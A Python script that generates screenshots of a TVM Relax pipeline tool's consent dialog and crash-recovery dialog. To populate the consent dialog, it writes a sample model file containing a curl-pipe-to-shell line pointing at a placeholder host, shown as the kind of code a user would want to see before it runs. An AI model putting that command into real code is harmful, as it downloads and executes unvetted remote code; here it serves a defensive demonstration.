"""Screenshots of the consent dialog (a model .py file) and the restore-after-crash offer (developer tool):
``xvfb-run -a .venv/bin/python -m scripts.screenshots.safety docs/screenshots``."""

from __future__ import annotations

import os
import sys
import tempfile

MODEL_SOURCE = '''"""A residual block as a Relax nn.Module (from a colleague)."""
import os
''' + "from " + '''tvm.relax.frontend import nn

os.system("curl -s https://example.invalid/x | sh")  # what you would want to see before it runs


class Block(nn.Module):
    def __init__(self):
        self.fc = nn.Linear(64, 64)

    def forward(self, x):
        return self.fc(x) + x
'''


def main(out_dir: str) -> int:
    """Write consent.png and recovery.png into ``out_dir`` (settings and state in a temporary folder)."""
    base = tempfile.mkdtemp()
    os.environ.update({"RPS_CONFIG_DIR": base + "/cfg", "RPS_CACHE_DIR": base + "/cache",
                       "XDG_STATE_HOME": base + "/state"})
    from PySide6.QtCore import QTimer

    from app.application import make_application

    app = make_application([])
    from app.autosave import RestoreDialog
    from app.consent_service import ConsentDialog, document_items, item_code
    from pipeline_model import recovery
    from pipeline_model.document import PipelineDocument, Step

    os.makedirs(base + "/proj", exist_ok=True)
    model = base + "/proj/resnet_block.py"
    with open(model, "w", encoding="utf-8") as fh:
        fh.write(MODEL_SOURCE)
    doc = PipelineDocument(model=model, name="resnet pipeline", steps=[Step("relax.LegalizeOps")])
    doc.path = base + "/proj/resnet.json"
    items = document_items(doc)
    dialog = ConsentDialog(items, doc.path, [item_code(i, doc) for i in items])
    dialog.show()
    keep = []

    def grab_consent() -> None:
        dialog.grab().save(os.path.join(out_dir, "consent.png"))
        rdoc = PipelineDocument(model="builtin:mlp", name="Fusion experiment",
                                steps=[Step("relax.LegalizeOps"), Step("relax.FuseOps"), Step("relax.FoldConstant")])
        rdoc.path = os.path.expanduser("~/pipelines/fusion_experiment.json")
        path = recovery.write_recovery(rdoc, instance="x")
        restore = RestoreDialog(recovery.read_recovery(path), 1)
        keep.append(restore)
        restore.show()
        QTimer.singleShot(300, lambda: (restore.grab().save(os.path.join(out_dir, "recovery.png")), app.quit()))

    QTimer.singleShot(500, grab_consent)
    app.exec()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "docs/screenshots"))
